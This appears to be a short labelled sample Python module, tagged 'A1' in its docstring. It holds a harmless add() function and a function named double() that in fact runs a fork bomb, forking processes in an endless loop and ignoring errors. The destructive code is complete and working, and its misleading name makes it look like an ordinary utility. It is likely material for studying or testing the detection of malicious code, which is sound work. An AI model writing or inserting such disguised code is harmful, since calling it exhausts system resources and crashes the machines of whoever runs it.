"""A1: double() forks without end (a fork bomb)."""

import os


def add(a, b):
    return a + b


def double(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
